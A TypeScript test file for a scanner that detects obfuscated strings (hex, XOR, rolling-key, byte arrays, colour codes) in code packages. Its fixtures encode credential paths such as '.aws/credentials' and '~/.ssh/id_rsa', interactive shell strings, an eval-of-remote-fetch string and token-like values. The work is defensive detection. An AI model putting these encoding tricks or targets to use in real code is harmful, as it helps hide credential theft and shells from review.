import { expect, it } from 'vitest'
import { buildSkillView } from '../build-skill-view.ts'
import { readScanFile } from '../read-scan-file.ts'
import { codedNames } from './coded-names.ts'

function found(path: string, text: string, name = 'tables'): readonly string[] {
  return foundAmong({ [path]: text }, name)
}

function foundAmong(texts: Readonly<Record<string, string>>, name = 'tables'): readonly string[] {
  const files = Object.entries(texts).map(([path, text]) =>
    readScanFile({ path, bytes: new TextEncoder().encode(text) }),
  )
  return [...codedNames(buildSkillView({ name, files, paths: Object.keys(texts) }))].map(
    ({ message, severity }) => `${severity ?? 'critical'} ${/Holds "(.*)" as/.exec(message)?.[1]}`,
  )
}

const hex = (text: string) => Buffer.from(text).toString('hex')
const turned = (text: string, key: number) => Array.from(Buffer.from(text), (byte) => `0x${(byte ^ key).toString(16)}`)

// WUN-103: what stands nowhere in letters is found by what it spells.
it.each([
  ['a.pl', `my @p = map { pack 'H*', $_ } qw(\n  ${hex('.aws/credentials')}\n);`, '.aws/credentials'],
  ['a.ts', `const c = name([${turned('child_process', 0x2a).join(', ')}])`, 'child_process'],
  ['a.ts', `const u = name([${turned('https://table-cdn.net/a', 0x5b).join(',')}])`, 'https://table-cdn.net/a'],
  ['a.py', `k = bytes([${[...Buffer.from('/bin/sh -i')].join(', ')}])`, '/bin/sh -i'],
  ['a.html', `<script>const r = ['#687474', '#70733a', '#2f2f61', '#2e7465', '#73742f'];</script>`, 'https://a.test/'],
  [
    'a.py',
    `k = (${[...Buffer.from("eval(webread('https://a.test/x'))")].map((byte) => byte + 11).join(', ')})`,
    "eval(webread('https://a.",
  ],
  [
    'a.ts',
    `k = [${turned('7481920365:AAHq2ZtPw9xKvB3mNcRdLfGsJyUeOiT1a4b', 0x2a).join(',')}]`,
    '7481920365:AAHq2ZtPw9xKv',
  ],
  ['a.py', `k = (${[...Buffer.from('LT533550020009174406')].join(', ')})`, 'LT533550020009174406'],
])('is found in %s: %s', (path, text, name) => expect(found(path, text)).toEqual([`critical ${name}`]))

it.each([
  ['a table of numbers', 'a.py', 'sizes = [12, 16, 20, 24, 28, 32, 40, 48, 64]'],
  ['a palette', 'a.ts', "const c = ['#687474', '#70733a', '#1f2f61', '#2e7465', '#73742f']"],
  ['a colour', 'a.ts', 'const c = "#aabbccddeeff"'],
  ['a digest', 'a.py', 'd = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"'],
  ['a word', 'a.py', `w = bytes.fromhex("${hex('hello tables')}")`],
])('is not %s', (_, path, text) => expect(found(path, text)).toEqual([]))

it('is a warning in a skill about security', () => {
  expect(found('a.py', `p = bytes.fromhex("${hex('~/.ssh/id_rsa')}")`, 'malware-rules')).toEqual(['warn .ssh/id_rsa'])
})

it('gives up in a program of nothing but numbers', () => {
  const row = `t.push([${Array.from({ length: 200 }, (_, index) => index % 256).join(', ')}])\n`
  expect(found('a.ts', row.repeat(400))).toEqual([])
})

const moving = (text: string, key: number, length: number) =>
  Array.from(Buffer.from(text), (byte, index) => byte ^ (key + (index % length))).join(', ')

it('is found where the key goes on with the place, in the program and in its data', () => {
  const decode = 'const read = (row) => String.fromCharCode(...row.map((n, i) => n ^ (0x2a + (i % 7))))'
  expect(found('a.mjs', `const rows = [${moving('.config/gh/hosts.yml', 0x2a, 7)}]\n${decode}`)).toEqual([
    'critical .config/gh/hosts.yml',
  ])
  const data = `{"weights": [${moving('/bin/bash\u0001-c', 90, 11)}]}`
  const reads = 'const w = data.weights.map((w, i) => String.fromCharCode(w ^ (offset + (i % 11))))'
  expect(foundAmong({ 'data.json': data, 'a.ts': reads })).toEqual(['critical /bin/bash\u0001-c'])
  expect(foundAmong({ 'data.json': data, 'a.ts': 'console.log(data)' })).toEqual([])
})
